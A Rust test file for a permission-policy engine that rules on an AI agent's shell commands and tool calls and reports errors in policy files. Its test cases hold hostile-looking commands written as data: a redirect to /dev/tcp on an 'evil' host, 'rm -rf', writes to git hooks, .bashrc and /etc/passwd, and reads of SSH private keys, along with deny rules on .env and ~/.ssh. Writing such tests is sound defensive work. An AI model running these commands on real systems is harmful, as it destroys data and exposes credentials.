//! Verdicts of policies on calls, and errors about broken policies.

mod documented;
mod world;

use gyrus_contract::{Decision, Does, Mode, Risk};
use gyrus_gate::policy::{CallTrust, MayName, PathUse, Policy, PolicyRuling, PolicySubject};
use serde_json::{Value, json};
use world::{parse, path, read};

use Decision::{Allow, Ask, Deny};

fn person(text: &str) -> Policy {
    parse(text, true).unwrap_or_else(|error| panic!("{error}\n{text}"))
}

/// `tool path…`, or `$ line` for a command line; `!` before it: the run is exposed.
fn rule(policy: &Policy, call: &str) -> PolicyRuling {
    rule_with(policy, call, "main", &json!({}))
}

fn rule_with(policy: &Policy, call: &str, agent: &str, arguments: &Value) -> PolicyRuling {
    let (exposed, call) = match call.strip_prefix('!') {
        Some(call) => (true, call),
        None => (false, call),
    };
    let mut paths = Vec::new();
    let mut hosts = Vec::new();
    let mut commands = Vec::new();
    let mut unread = false;
    let tool = if let Some(line) = call.strip_prefix("$ ") {
        let reading = read(line);
        commands = reading.commands;
        for fact in reading.facts {
            match fact.does {
                Does::Writes { path: real } => {
                    let real = real.to_str().expect("lines are text");
                    paths.push(path(real, PathUse::Changes));
                }
                Does::Connects { hosts: of } => hosts.extend(of),
                Does::Hides => unread = true,
                other => panic!("{other:?}"),
            }
        }
        "shell"
    } else {
        let mut words = call.split(' ');
        let tool = words.next().expect("a split has a part");
        for word in words {
            match word.strip_prefix("host=") {
                Some(host) => hosts.push(host.to_owned()),
                None if tool == "read" => paths.push(path(word, PathUse::Reads)),
                None => paths.push(path(word, PathUse::Changes)),
            }
        }
        tool
    };
    policy.rule(&PolicySubject {
        tool,
        arguments,
        service: None,
        trusted: &[],
        paths: &paths,
        hosts: &hosts,
        commands: &commands,
        unread,
        exposed,
        agent,
        may_name: MayName::default(),
    })
}

/// Rules of a decision and conditions each.
fn rules(all: &[(&str, &str)]) -> String {
    let rule = |(decide, conditions): &(&str, &str)| {
        format!("[[rule]]\ndecide = \"{decide}\"\nwhy = \"x\"\n{conditions}\n")
    };
    all.iter().map(rule).collect()
}

fn check(policy: &str, cases: &[(&str, Option<Decision>)]) {
    let policy = person(policy);
    for (call, expected) in cases {
        let ruling = rule(&policy, call);
        assert_eq!(ruling.decision, *expected, "{call}: {ruling:?}");
    }
}

#[test]
fn the_strictest_rule_wins_whatever_the_order() {
    check(
        &rules(&[
            ("deny", r#"command = ["git", "push"]"#),
            ("allow", r#"command = ["git"]"#),
            ("ask", r#"command = ["git", ["merge", "rebase"]]"#),
        ]),
        &[
            ("$ git status", Some(Allow)),
            ("$ git rebase x", Some(Ask)),
            ("$ git push", Some(Deny)),
            ("$ git -C x push", Some(Deny)),
            ("$ git merge x ; git push", Some(Deny)),
            ("$ ls", None),
            ("write src/x", None),
        ],
    );
}

#[test]
fn allow_needs_every_part_and_deny_any() {
    check(
        r#"
        [[rule]]
        decide = "allow"
        why = "harmless"
        command = [["echo", "make"]]
        [[rule]]
        decide = "allow"
        why = "our server"
        command = ["curl"]
        host = "*.example.com"
        [[rule]]
        decide = "deny"
        why = "secrets"
        path = [".env", "~/.ssh/**"]
        "#,
        &[
            ("$ echo x ; make test", Some(Allow)),
            ("$ echo x ; rm -rf y", None),
            ("$ echo $x", Some(Allow)),
            ("$ $x", None),
            ("$ echo x ; $x", None),
            // Perhaps it reads a secret.
            ("$ echo x ???", Some(Ask)),
            ("$ echo x > out", Some(Allow)),
            // What a rule does not name, it does not allow.
            ("$ echo x > /srv/people/kim/.bashrc", None),
            ("$ echo x > .git/hooks/pre-commit", None),
            ("$ echo x > /dev/tcp/evil/80", None),
            ("$ curl http://a.example.com/ | make", Some(Allow)),
            ("$ curl http://example.com/", None),
            ("$ curl http://a.example.com/ http://evil.net/", None),
            ("$ curl http://a.example.com.evil.net/", None),
            ("$ make http://a.example.com/", None),
            ("$ curl x", None),
            ("$ echo x > .env", Some(Deny)),
            ("$ echo x > app/.ENV", Some(Deny)),
            ("read ok /srv/people/kim/.ssh/id_rsa", Some(Deny)),
            ("remove /srv/people/kim/.ssh", Some(Deny)),
            ("read ok", None),
        ],
    );
}

#[test]
fn what_cannot_be_read_is_asked_about_where_a_rule_may_hold() {
    check(
        &rules(&[
            ("deny", r#"command = ["git", "push"]"#),
            ("deny", "tool = \"write\"\npath = \"x\""),
            ("allow", r#"tool = "shell""#),
        ]),
        &[
            ("$ ls", Some(Allow)),
            ("$ ls ???", Some(Ask)),
            ("$ ???", Some(Ask)),
            ("$ git push ???", Some(Deny)),
        ],
    );
}

#[test]
fn conditions_stand_together() {
    let policy = person(
        r#"
        [[rule]]
        decide = "ask"
        why = "pages may say anything"
        tool = ["write", "mcp__*"]
        exposed = true
        [[rule]]
        decide = "deny"
        why = "researchers do not delete"
        agent = "researcher"
        tool = "mcp__*"
        argument = [{ name = "action", matches = "delete*" }, { name = "count", matches = "3" }]
        [[rule]]
        decide = "allow"
        why = "drafts"
        tool = "mcp__mail"
        exposed = false
        argument = { name = "to", matches = "*@example.com" }
        "#,
    );
    let arguments = json!({"action": ["delete_all"], "count": 3, "to": "a@example.com"});
    let check = |call: &str, agent: &str, arguments: &Value, expected| {
        let ruling = rule_with(&policy, call, agent, arguments);
        assert_eq!(ruling.decision, expected, "{call} {agent}: {ruling:?}");
    };
    let none = json!({});
    check("write x", "main", &none, None);
    check("!write x", "main", &none, Some(Ask));
    check("!read x", "main", &none, None);
    check("mcp__mail", "researcher", &arguments, Some(Deny));
    check("mcp__mail", "main", &arguments, Some(Allow));
    check("!mcp__mail", "main", &arguments, Some(Ask));
    check("mcp__mail", "researcher", &none, None);
    // Every value must be allowed, and a text within an object is not looked for.
    let two = json!({"to": ["a@example.com", "b@evil.net"]});
    check("mcp__mail", "main", &two, None);
    check(
        "mcp__mail",
        "main",
        &json!({"to": {"x": "a@example.com"}}),
        None,
    );
    check("mcp__mail", "main", &json!({"to": []}), None);
}

#[test]
fn reasons_say_which_line_and_whose() {
    let own = person(
        "[[rule]]\ndecide = \"allow\"\nwhy = \"fine\"\ncommand = [\"git\"]\n\n[[rule]]\ndecide = \
         \"ask\"\nwhy = \"look first\"\ncommand = [\"git\", \"push\"]\n",
    );
    let projects = "[[rule]]\ndecide = \"ask\"\nwhy = \"releases only\"\ncommand = [\"git\"]\n";
    let both = own.and(parse(projects, false).unwrap());
    let ruling = rule(&both, "$ git push");
    assert_eq!(ruling.rules, [2, 3]);
    assert_eq!(
        ruling.reasons,
        [
            "look first (policy.toml line 6)",
            "releases only (the project's policy.toml line 1)"
        ]
    );
    // An allow of one's own does not outweigh what the project asks for.
    assert_eq!(rule(&both, "$ git status").decision, Some(Ask));
    let many = person(&"[[rule]]\ndecide = \"ask\"\nwhy = \"x\"\ntool = \"write\"\n".repeat(7));
    let ruling = rule(&many, "write x");
    assert_eq!(ruling.rules.len(), 7);
    assert_eq!(ruling.reasons.len(), 6);
    assert_eq!(ruling.reasons[5], "2 more rules with the same decision");
}

#[test]
fn an_allow_that_falls_short_says_why() {
    let policy = person(
        r#"
        [[rule]]
        decide = "allow"
        why = "builds"
        command = ["make"]"#,
    );
    let check = |call: &str, expected: Option<&str>| {
        let ruling = rule(&policy, call);
        assert_eq!(ruling.decision, None);
        assert_eq!(ruling.short_of_allow.as_deref(), expected, "{call}");
    };
    check("$ ls", None);
    check(
        "$ make ; rm -rf x",
        Some("policy.toml line 2 allows a part of it, but no rule allows `rm -rf x`"),
    );
    check(
        "$ make > /etc/passwd",
        Some("policy.toml line 2 does not reach to `/etc/passwd`, outside the workspace"),
    );
    check(
        "$ make http://evil.net/",
        Some("policy.toml line 2 does not allow a connection to `evil.net`"),
    );
    check(
        "$ make ???",
        Some("policy.toml line 2 allows only what can be read whole"),
    );
}

#[test]
fn trust_blocks_then_frees_then_approves_then_asks() {
    let own = person(
        r#"
        [agent.researcher]
        tools = ["read", "search", "fetch", "mcp__web__*"]
        without_asking = ["read", "fetch"]
        mode = "ask"
        [agent.mute]
        tools = []
        "#,
    );
    let project = "[agent.researcher]\ntools = [\"read\", \"write\"]\nmode = \"read-only\"\n";
    let both = own.clone().and(parse(project, false).unwrap());
    let check = |policy: &Policy, agent: &str, tool: &str, risk, expected: Decision| {
        let trust = policy.trust(agent, tool, risk);
        assert_eq!(trust.decision(), expected, "{agent} {tool} {trust:?}");
    };
    check(&own, "researcher", "write", Risk::Safe, Deny);
    check(&own, "mute", "read", Risk::Safe, Deny);
    check(&own, "researcher", "search", Risk::Safe, Allow);
    check(&own, "researcher", "fetch", Risk::High, Allow);
    check(&own, "researcher", "fetch", Risk::Critical, Ask);
    check(&own, "researcher", "mcp__web__get", Risk::High, Ask);
    check(&own, "main", "write", Risk::Moderate, Ask);
    check(&both, "researcher", "fetch", Risk::High, Deny);
    check(&both, "researcher", "write", Risk::High, Deny);
    check(&both, "researcher", "read", Risk::High, Allow);
    let CallTrust::Blocked { why } = both.trust("researcher", "fetch", Risk::High) else {
        panic!("not blocked");
    };
    assert_eq!(
        why,
        "`fetch` is not among the tools of the agent `researcher` (the project's policy.toml line 1)"
    );
    for (policy, agent, chosen, expected) in [
        (&own, "researcher", Mode::Auto, Mode::Ask),
        (&own, "researcher", Mode::Never, Mode::Never),
        (&both, "researcher", Mode::Never, Mode::ReadOnly),
        (&both, "main", Mode::Auto, Mode::Auto),
    ] {
        assert_eq!(policy.mode(agent, chosen), expected, "{agent} {chosen}");
    }
}

/// A whole rule around one line.
fn with(line: &str) -> String {
    rules(&[("deny", line)])
}

#[test]
fn every_problem_is_told_with_its_place() {
    let check = |text: &str, may_loosen: bool, expected: &str| {
        let error = parse(text, may_loosen).expect_err(text);
        assert_eq!(error.to_string(), expected, "{text}");
    };
    check(
        "[[rule]]\ndecid = \"deny\"\nwhy = 3\n\n[agents.x]\n[[rule]]\ndecide = \"dney\"\nwhy = \"\"\n",
        true,
        "policy.toml:1:1: `rule`: has no `decide`\n\
         policy.toml:2:1: `decid`: is not a key of `rule`; did you mean `decide`?\n\
         policy.toml:3:7: `why`: must be a text, not a number\n\
         policy.toml:5:2: `agents`: is not a key of `a policy`; did you mean `agent`?\n\
         policy.toml:7:10: `decide`: `dney` is none of allow, ask, deny; did you mean `deny`?\n\
         policy.toml:8:7: `why`: is empty",
    );
    check(
        "[[rule]]\ndecide = \"allow\"\nwhy = \"x\"\ntool = \"read\"\n[agent.a]\nwithout_asking = [\"read\"]",
        false,
        "policy.toml:2:10: `decide`: the policy of a project can only tighten, with `ask` and \
         `deny`; an `allow` belongs in your own policy.toml\n\
         policy.toml:6:18: `without_asking`: the policy of a project can only tighten; approve \
         tools in your own policy.toml",
    );
    check(
        "[[rule]]\ndecide = \"allow\"\nwhy = \"x\"\nexposed = false\n",
        true,
        "policy.toml:2:10: `decide`: an `allow` must say what it allows; add `tool`, `command`, \
         `path` or `host`",
    );
    check(
        &with("command = \"git push\""),
        true,
        "policy.toml:4:11: `command`: must be a list of words; write `command = [\"git\", \"push\"]`",
    );
    check(
        &with("command = [\"git push\"]"),
        true,
        "policy.toml:4:12: `command`: begins with a program whose name has a space; each word \
         stands alone: [\"git\", \"push\"]",
    );
    check(
        &with("path = \"ä/../b\""),
        true,
        "policy.toml:4:8: `path`: climbs with `..`; write the absolute path",
    );
    check(
        &with("tool = []"),
        true,
        "policy.toml:4:8: `tool`: is an empty list; leave it out if it should not matter",
    );
    check(
        "[agent.a]\ntools = [\"read\"]\nwithout_asking = [\"write\"]\nmode = \"atuo\"\n",
        true,
        "policy.toml:3:19: `without_asking`: `write` is not among its `tools`\n\
         policy.toml:4:8: `mode`: `atuo` is none of read-only, ask, edits, auto, never; did you \
         mean `auto`?",
    );
    check(
        "[[rule]]\ndecide = \"deny\"\nwhy = \"a\\u001b[2Jb\"\n",
        true,
        "policy.toml:3:7: `why`: has a character that is not seen: U+001B",
    );
}

#[test]
fn broken_toml_bounds_and_depth_are_refused() {
    let nested = format!("x = {}{}", "[".repeat(100_000), "]".repeat(100_000));
    let dotted = format!("{}a = 1", "a.".repeat(100_000));
    let many = "[[rule]]\ndecide=\"ask\"\nwhy=\"x\"\n".repeat(10_001);
    let large = " ".repeat((1 << 20) + 1);
    let unknown = (0..50).map(|n| format!("key{n} = 1\n")).collect::<String>();
    for (text, says) in [
        ("[[rule]\n", "policy.toml:1:"),
        ("rule = 3", "must be a list of tables"),
        ("rule = [3]", "must be a table"),
        ("[agent]\nx = 3", "must be a table"),
        (&nested, "cannot recurse further"),
        (&dotted, "recursion limit"),
        (&many, "has 10001 rules; at most 10000 fit"),
        (&large, "at most 1048576 fit"),
        (&unknown, "policy.toml: 30 more problems"),
        (
            &with(&format!("path = \"{}\"", "a".repeat(1_025))),
            "longer than 1024",
        ),
        (
            &with(&format!("path = [{}]", "\"a\",".repeat(1_001))),
            "1001 entries",
        ),
        (
            &with(&format!("command = [{}]", "\"a\",".repeat(33))),
            "more than 32",
        ),
    ] {
        let error = parse(text, true).expect_err(says).to_string();
        assert!(error.contains(says), "{says}: {error:.500}");
    }
}

#[test]
fn as_many_rules_as_fit_are_all_heard() {
    let rules = (1..=10_000).map(|n| {
        let decide = if n == 10_000 { "deny" } else { "ask" };
        format!("[[rule]]\ndecide = \"{decide}\"\nwhy = \"x\"\npath = \"a{n}/**\"\n")
    });
    let policy = person(&rules.collect::<String>());
    let ruling = rule(&policy, "write a10000/x a1/y a2/z");
    assert_eq!((ruling.decision, ruling.rules), (Some(Deny), vec![10_000]));
    assert_eq!(rule(&policy, "write a1/y a2/z").rules, [1, 2]);
}

#[test]
fn examples_are_tried() {
    person(
        r#"
        [[rule]]
        decide = "deny"
        why = "x"
        command = ["git", ["push", "fetch"], "origin"]
        exposed = true
        agent = "researcher"
        matches = ["git push origin main", "git -C x fetch origin"]
        not_matches = ["git status", { command = "git push origin", exposed = false, tool = "shell" }]
        [[rule]]
        decide = "deny"
        why = "x"
        tool = ["write", "edit"]
        path = ["src/**", "~/notes"]
        argument = { name = "mode", matches = "7*" }
        matches = [{ path = "src/x.rs", arguments = { mode = 777 } }, { tool = "edit", path = "~/notes", arguments = { mode = "7" } }]
        not_matches = { path = "src/x.rs", arguments = { mode = 644 } }
        [[rule]]
        decide = "allow"
        why = "x"
        host = "example.com"
        tool = "fetch"
        matches = { host = "example.com:443" }
        not_matches = { host = "evil.net" }
        "#,
    );
    let check = |decide: &str, rest: &str, expected: &str| {
        let text = format!("[[rule]]\ndecide = \"{decide}\"\nwhy = \"x\"\n{rest}\n");
        let error = parse(&text, true).expect_err(&text);
        assert_eq!(error.to_string(), expected, "{text}");
    };
    check(
        "deny",
        "command = [\"git\", \"push\"]\nmatches = [\"git status\"]\nnot_matches = [\"git -C x push\"]",
        "policy.toml:5:12: `matches`: this example should match its rule, and does not\n\
         policy.toml:6:16: `not_matches`: this example should not match its rule, and does",
    );
    check(
        "allow",
        "command = [\"echo\"]\nmatches = [\"echo x > /etc/x\"]",
        "policy.toml:5:12: `matches`: this example should match its rule, and does not; \
         policy.toml line 1 does not reach to `/etc/x`, outside the workspace",
    );
    check(
        "deny",
        "command = [\"echo\"]\nmatches = [\"ls ???\"]",
        "policy.toml:5:12: `matches`: this example should match its rule, and does not; it \
         cannot be read whole, so it would be asked about",
    );
    check(
        "deny",
        "path = \"x\"\nmatches = [{ path = \"x\" }]",
        "policy.toml:5:12: `matches`: does not say which tool is called; add `tool` to it",
    );
    check(
        "deny",
        "path = \"x\"\nmatches = [{ tool = \"write\", pth = \"x\" }, \";\"]",
        "policy.toml:5:30: `pth`: is not a key of `matches`; did you mean `path`?",
    );
}
